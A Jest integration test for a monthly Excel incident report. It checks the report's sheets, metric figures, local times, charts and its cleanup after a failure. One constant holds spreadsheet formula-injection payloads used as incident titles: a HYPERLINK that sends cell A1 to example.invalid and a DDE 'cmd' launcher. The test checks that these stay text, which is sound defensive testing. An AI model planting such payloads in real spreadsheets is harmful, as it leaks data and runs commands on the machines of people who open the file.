import { jest } from '@jest/globals';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { INestApplicationContext } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import { loadImage } from '@napi-rs/canvas';
import ExcelJS from 'exceljs';
import { HindsightModule } from '../../src/app.module.js';
import { loadConfig } from '../../src/config/config.js';
import { generateDemoData } from '../../src/demo/demo-data.generator.js';
import { DemoDataService } from '../../src/demo/demo-data.service.js';
import { MetricsAnalysisService } from '../../src/metrics/analysis/metrics-analysis.service.js';
import { MetricsHealthService } from '../../src/metrics/health/metrics-health.service.js';
import { MetricsSummaryService } from '../../src/metrics/summary/metrics-summary.service.js';
import { excelLocalTime } from '../../src/reports/cells.js';
import { SHEET_NAMES } from '../../src/reports/monthly-workbook.js';
import { ReportBuilder, type MonthlyReportResult } from '../../src/reports/report-builder.service.js';
import { reportMonths } from '../../src/reports/report-month.js';
import { ReportsRepository } from '../../src/reports/reports.repository.js';
import { FixedClock } from '../support/app.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';

/**
 * The monthly report built in process on demo data (24 months to 2026-11-23) in Europe/Berlin, read back with
 * ExcelJS: the sheets, the Summary's figures against the metrics services for the same month, dates and
 * formats, the charts, user text that looks like a formula, and a month without incidents.
 * REPORT_KEEP=<dir> keeps the generated workbooks there (to look at them in LibreOffice).
 */
const NOW = new Date('2026-11-23T12:00:00Z');
const ZONE = 'Europe/Berlin';
const MONTH = '2026-10';
const INJECTIONS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-1+2', '@SUM(A1:A9)'];

/** The Summary's row whose first cell is `label`. */
function summaryRow(sheet: ExcelJS.Worksheet, label: string): ExcelJS.Row {
  let found: ExcelJS.Row | undefined;
  sheet.eachRow((row) => {
    if (row.getCell(1).value === label) found = row;
  });
  if (!found) throw new Error(`no Summary row "${label}"`);
  return found;
}

/** A number cell's value; ExcelJS reads a number in a date or [h]:mm format back as a Date of the 1900 system. */
function numeric(cell: ExcelJS.Cell): number | null {
  if (typeof cell.value === 'number') return cell.value;
  if (cell.value instanceof Date) return (cell.value.getTime() - Date.UTC(1899, 11, 30)) / 86_400_000;
  return null;
}

describe('the monthly report, built in process', () => {
  let db: TestDatabase;
  let app: INestApplicationContext;
  let dir: string;
  let result: MonthlyReportResult;
  let book: ExcelJS.Workbook;
  const scope = () => {
    const { current } = reportMonths(MONTH, ZONE);
    return { from: current.from, to: current.to };
  };

  beforeAll(async () => {
    db = await createTestDatabase();
    const config = loadConfig({ REPORT_TIMEZONE: ZONE, BUSINESS_TIMEZONE: 'UTC' });
    app = await NestFactory.createApplicationContext(HindsightModule.register({ config, databaseUrl: db.url, clock: new FixedClock(NOW) }), { logger: false });
    await app.get(DemoDataService).write(generateDemoData({ seed: 7, incidents: 600, months: 24, end: NOW }));
    // User text that a spreadsheet would run as a formula if it were written as one.
    await db.dataSource.query(
      `UPDATE incidents SET title = ($1::text[])[n] FROM (SELECT id, row_number() OVER (ORDER BY started_at)::int AS n FROM incidents WHERE started_at >= $2 AND started_at < $3) x
        WHERE incidents.id = x.id AND x.n <= 4`,
      [INJECTIONS, scope().from, scope().to],
    );
    dir = process.env.REPORT_KEEP ?? (await mkdtemp(path.join(tmpdir(), 'hindsight-report-')));
    result = await app.get(ReportBuilder).buildMonthly(MONTH, path.join(dir, `hindsight-monthly-${MONTH}.xlsx`));
    book = new ExcelJS.Workbook();
    await book.xlsx.readFile(result.path);
  });
  afterAll(async () => {
    await app?.close();
    await db?.close();
    if (!process.env.REPORT_KEEP) await rm(dir, { recursive: true, force: true });
  });

  it('writes the eight sheets in order, renamed from a temporary name, with its size and sha256', async () => {
    expect(book.worksheets.map((s) => s.name)).toEqual([...SHEET_NAMES]);
    expect(result.bytes).toBeGreaterThan(10_000);
    expect(result.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect((await readdir(dir)).filter((name) => name.includes(MONTH))).toEqual([`hindsight-monthly-${MONTH}.xlsx`]);
  });

  it('returns a JSON-serialisable snapshot of the figures it printed', () => {
    expect(JSON.parse(JSON.stringify(result.figures))).toEqual(result.figures);
    expect(result.figures).toMatchObject({ month: MONTH, label: 'October 2026', timeZone: ZONE, generatedAt: NOW.toISOString() });
    expect(result.figures.trends.months).toHaveLength(12);
    expect(result.figures.trends.months.at(-1)).toBe(MONTH);
    expect(result.figures.summary).toMatch(/^In October 2026 \(Europe\/Berlin\) \d+ incidents started/);
  });

  it('prints on the Summary exactly the figures of the metrics services for the same month', async () => {
    const summary = book.getWorksheet('Summary')!;
    const [all] = (await app.get(MetricsSummaryService).summarize(scope())).groups;
    expect(all.incidents).toBeGreaterThan(5);
    expect(numeric(summaryRow(summary, 'All incidents').getCell(2))).toBe(all.incidents);
    for (const [label, metric] of [['TTR time to resolve', 'ttr'], ['TTM time to mitigate', 'ttm'], ['TTD time to detect', 'ttd'], ['TTA time to acknowledge', 'tta']] as const) {
      const median = summaryRow(summary, `${label}: median`);
      expect(numeric(median.getCell(2))! * 86_400).toBeCloseTo(all.metrics[metric].median!, 3);
      expect(numeric(median.getCell(3))).toBe(all.metrics[metric].n);
      expect(median.getCell(2).numFmt).toBe('[h]:mm');
      expect(numeric(summaryRow(summary, `${label}: p90`).getCell(2))! * 86_400).toBeCloseTo(all.metrics[metric].p90!, 3);
    }
    const sla = (await app.get(MetricsAnalysisService).sla(scope())).groups[0].sla.mitigate;
    const slaRow = summaryRow(summary, 'All severities: time to mitigate');
    expect(slaRow.getCell(2).value).toBe(sla.breachRate);
    expect(slaRow.getCell(3).value).toBe(sla.n);
    const retros = (await app.get(MetricsHealthService).retros(scope())).groups[0];
    expect(summaryRow(summary, 'Resolved incidents with a retrospective').getCell(2).value).toBe(retros.retroShare);
    const comms = (await app.get(MetricsHealthService).comms(scope())).groups[0];
    expect(summaryRow(summary, 'Status-update cadence adherence (share of open time covered)').getCell(2).value).toBe(comms.share);
    const items = (await app.get(MetricsHealthService).actionItems(scope())).overall;
    expect(summaryRow(summary, 'Opened in the month').getCell(2).value).toBe(items.total);
  });

  it('labels each change exactly as GET /metrics/changes does, with n and p', async () => {
    const { previous, current } = reportMonths(MONTH, ZONE);
    const report = await app.get(MetricsAnalysisService).changes({ from: previous.from, to: current.to }, { metric: 'ttr', period: 'month' });
    const change = report.groups[0].periods[1].change!;
    const figure = result.figures.changes.find((c) => c.metric === 'ttr')!;
    expect(figure).toMatchObject({ label: change.label, nPrevious: change.nPrevious, nCurrent: change.nCurrent, pValue: change.pValue });
    const row = summaryRow(book.getWorksheet('Summary')!, 'TTR time to resolve: median');
    expect(row.getCell(8).value).toBe(figure.verdict);
    expect(row.getCell(9).value).toBe(change.pValue);
  });

  it('compares with the same month last year by the same test as GET /metrics/changes, and shows it beside the month-over-month label', async () => {
    const analysis = app.get(MetricsAnalysisService);
    const { previous, current, lastYear } = reportMonths(MONTH, ZONE);
    const month = (range: typeof current) => ({ from: range.from, to: range.to, timeZone: ZONE });
    for (const metric of ['ttr', 'ttm', 'tta'] as const) {
      // On two neighbouring months compareRanges answers exactly what /metrics/changes does: the same function on the same values.
      const consecutive = await analysis.changes({ from: previous.from, to: current.to, timeZone: ZONE }, { metric, period: 'month' });
      expect(consecutive.groups[0].periods[1].change!.nCurrent).toBeGreaterThan(0);
      expect(await analysis.compareRanges(month(previous), month(current), metric)).toEqual(consecutive.groups[0].periods[1].change);
    }
    const summary = book.getWorksheet('Summary')!;
    expect(summaryRow(summary, 'Figure').getCell(10).value).toBe('Change vs October 2025');
    for (const [label, metric] of [['TTR time to resolve', 'ttr'], ['TTM time to mitigate', 'ttm']] as const) {
      const change = await analysis.compareRanges(month(lastYear), month(current), metric);
      expect(change.nPrevious).toBeGreaterThan(0);
      const figure = result.figures.yearOverYear!.find((c) => c.metric === metric)!;
      expect(figure).toMatchObject({ label: change.label, nPrevious: change.nPrevious, nCurrent: change.nCurrent, pValue: change.pValue, medianPrevious: change.medianPrevious });
      expect(figure.verdict).toBe(change.nPrevious < 5 || change.nCurrent < 5 ? 'too few incidents to tell' : change.label);
      const row = summaryRow(summary, `${label}: median`);
      expect(row.getCell(10).value).toBe(figure.verdict);
      expect(row.getCell(11).value).toBe(change.pValue);
    }
    expect(result.figures.summary).toContain('Against October 2025, time to resolve');
  });

  it('lists every incident of the month with milestones as local date-times and intervals as durations', async () => {
    const sheet = book.getWorksheet('Incidents')!;
    const rows: { key: string; started_at: Date; ttr_seconds: number | null }[] = await db.dataSource.query(
      `SELECT key, started_at, ttr_seconds FROM incidents WHERE started_at >= $1 AND started_at < $2 ORDER BY started_at, id`,
      [scope().from, scope().to],
    );
    expect(sheet.getRow(1).getCell(1).value).toContain('times in Europe/Berlin');
    const header = sheet.getRow(3).values as ExcelJS.CellValue[];
    const column = (name: string) => header.indexOf(name);
    expect(sheet.actualRowCount).toBe(3 + rows.length);
    const first = sheet.getRow(4);
    expect(first.getCell(column('Key')).value).toBe(rows[0].key);
    const started = first.getCell(column('Started'));
    expect(started.numFmt).toBe('yyyy-mm-dd hh:mm');
    expect((started.value as Date).getTime()).toBe(excelLocalTime(rows[0].started_at, ZONE)!.getTime());
    // Berlin is UTC+1 or +2: the cell shows the wall-clock time, not UTC.
    expect((started.value as Date).getTime() - rows[0].started_at.getTime()).toBeGreaterThanOrEqual(3_600_000);
    const withTtr = rows.findIndex((r) => r.ttr_seconds !== null);
    const ttr = sheet.getRow(4 + withTtr).getCell(column('TTR [h]:mm'));
    expect(ttr.numFmt).toBe('[h]:mm');
    expect(numeric(ttr)! * 86_400).toBeCloseTo(rows[withTtr].ttr_seconds!, 3);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.autoFilter).toBeTruthy();
  });

  it('lists the breaches, retrospectives and data-quality incidents the metrics services count', async () => {
    const cells = (sheet: string, header: string) => {
      const ws = book.getWorksheet(sheet)!;
      const column = (ws.getRow(3).values as ExcelJS.CellValue[]).indexOf(header);
      const values: ExcelJS.CellValue[] = [];
      ws.eachRow((row, n) => {
        if (n > 3) values.push(row.getCell(column).value);
      });
      return values;
    };
    const sla = (await app.get(MetricsAnalysisService).sla(scope())).groups[0].sla;
    const states = cells('SLA breaches', 'State');
    expect(states.filter((s) => s === 'breached')).toHaveLength(sla.ack.breached + sla.mitigate.breached + sla.resolve.breached);
    expect(states.filter((s) => s === 'open breach')).toHaveLength(sla.ack.open + sla.mitigate.open + sla.resolve.open);
    const retros = (await app.get(MetricsHealthService).retros(scope())).groups[0];
    const timing = cells('Retrospectives', 'Timing');
    expect(timing.filter((t) => t === 'on time')).toHaveLength(retros.timing.onTime);
    expect(timing.filter((t) => t === 'late')).toHaveLength(retros.timing.late);
    expect(timing.filter((t) => t === 'overdue')).toHaveLength(retros.withoutRetro.overdue);
    const quality = await app.get(MetricsAnalysisService).dataQuality(scope(), { includeMissing: true, limit: 1 });
    const listed = book.getWorksheet('Data quality')!;
    let keys = 0;
    listed.eachRow((row) => {
      const key = row.getCell(1).value;
      if (typeof key === 'string' && /^INC-/.test(key)) keys += 1;
    });
    expect(keys).toBe(quality.total);
    expect(quality.total).toBeGreaterThan(0);
  });

  it('keeps titles that look like formulas as text', () => {
    const sheet = book.getWorksheet('Incidents')!;
    const titles = new Map<string, ExcelJS.Cell>();
    sheet.eachRow((row, n) => {
      const cell = row.getCell(2);
      if (n > 3 && typeof cell.value === 'string') titles.set(cell.value, cell);
    });
    for (const text of INJECTIONS) {
      const cell = titles.get(text);
      expect(cell).toBeDefined();
      expect(cell!.type).toBe(ExcelJS.ValueType.String);
      expect(cell!.formula).toBeUndefined();
    }
  });

  it('embeds the trend charts on the Trends sheet as PNGs that decode', async () => {
    const images = book.getWorksheet('Trends')!.getImages();
    expect(images.length).toBe(9);
    for (const image of images) {
      const medium = book.getImage(Number(image.imageId));
      expect(medium.extension).toBe('png');
      const decoded = await loadImage(medium.buffer as unknown as Buffer);
      expect([decoded.width, decoded.height]).toEqual([1800, 840]);
    }
  });

  it('leaves neither the file nor its temporary behind when generation fails part-way', async () => {
    const repository = app.get(ReportsRepository, { strict: false });
    const failing = jest.spyOn(repository, 'incidents').mockImplementation(async function* () {
      yield* [];
      throw new Error('connection lost');
    });
    const target = path.join(dir, 'failed', 'hindsight-monthly-2026-09.xlsx');
    try {
      await expect(app.get(ReportBuilder).buildMonthly('2026-09', target)).rejects.toThrow('connection lost');
    } finally {
      failing.mockRestore();
    }
    expect(await readdir(path.dirname(target))).toEqual([]);
  });

  it('writes a report for a month without incidents that says so', async () => {
    const empty = await app.get(ReportBuilder).buildMonthly('2020-01', path.join(dir, 'hindsight-monthly-2020-01.xlsx'));
    expect(empty.figures.current.incidents).toBe(0);
    expect(empty.figures.summary).toMatch(/^No incidents started in January 2020 \(Europe\/Berlin\)/);
    const emptyBook = new ExcelJS.Workbook();
    await emptyBook.xlsx.readFile(empty.path);
    expect(emptyBook.worksheets.map((s) => s.name)).toEqual([...SHEET_NAMES]);
    expect(emptyBook.getWorksheet('Incidents')!.getRow(4).getCell(1).value).toBe('No incidents started in January 2020.');
    expect(emptyBook.getWorksheet('Summary')!.getRow(4).getCell(1).value).toBe(empty.figures.summary);
  });
});
